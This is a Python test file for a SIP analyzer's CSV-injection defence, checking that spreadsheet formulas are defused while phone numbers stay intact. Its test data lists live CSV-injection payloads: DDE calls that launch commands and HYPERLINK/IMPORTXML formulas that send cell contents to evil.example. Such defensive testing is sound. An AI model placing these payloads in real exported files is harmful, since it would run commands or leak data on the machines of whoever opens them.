"""No cell of a CSV is a formula to a spreadsheet, and numbers stay as they are."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sipanalyzer.output.formulas import defused, runs_somewhere

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", '"=1+1"', "\uff1d1+1", "\uff0bA1",
    "\uff0dA1", "\uff20A1", "\xa0=1", "+4930=cmd", "+49 30;=cmd|'x'!A0", "-A1", "+A1", "--A1", "+1+HYPERLINK(1)",
    "=", "@alice", "-5kYh@10.0.0.1",
)  # fmt: skip
"""What begins as a formula (OWASP, CSV Injection)."""
LATER = ("a;=cmd|' /C calc'!A0;", "a\n=1", "a\r\n@SUM(1)", "x\t-cmd|'/C calc'!A0", 'a;"=1"', "a; =1", "a;+HYPERLINK(1)")
"""What becomes one where the spreadsheet splits at semicolons."""
HARMLESS = (
    "", "-", "--", "+", "+4930123456", "+49 30 1234-56", "+49 (0)30/1234", "+1.555.0100", "-12", "-1.5", "-0.25",
    "+*31#", "-1.5e-7", "-inf", "+4930;ext=12", "+4930;npdi", "sip:a@b;user=phone",
    '<sip:a@b>;+sip.instance="<urn:uuid:1>"', "alice", "a=b", "a@b", "z9hG4bK-1;x", "\u6f22;\u5b57", "a\nb", "'=1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert defused(text).startswith("'") and defused(text).replace("'", "") == text.replace("'", "")
    assert runs_somewhere([text], text)


@pytest.mark.parametrize("text", LATER)
def test_a_formula_behind_a_separator_is_kept_from_running(text: str) -> None:
    sign = min(text.index(each) for each in "=@+-" if each in text)
    assert defused(text) == f"{text[:sign]}'{text[sign:]}"
    assert runs_somewhere(["x", text], "x" + text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_what_is_no_formula_stay_as_they_are(text: str) -> None:
    assert defused(text) == text
    assert not runs_somewhere([text], text)


@given(st.lists(st.text(st.sampled_from("=@+-; \"'\t\r\na1(|!\uff1d\xa0")), max_size=6))
def test_a_column_is_searched_as_its_texts_are(texts: list[str]) -> None:
    if not runs_somewhere(texts, "".join(texts)):
        assert [defused(text) for text in texts] == texts


@given(st.text(st.sampled_from("=@+-; \"'\t\r\na1(|!\uff1d\xa0"), max_size=12))
def test_what_is_defused_has_nothing_left_to_defuse(text: str) -> None:
    assert defused(defused(text)) == defused(text) or text[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("part", ["-", "+", ";", ";+", ";\t", " ", '"', "\n", "+1", "-1.", ";a=", "(", "=", "+;a"])
def test_a_million_letters_take_no_longer_than_they_are(part: str) -> None:
    text = part * (1_000_000 // len(part)) + "x"
    began = time.process_time()
    defused(text)
    runs_somewhere([text], text)
    assert time.process_time() - began < 2
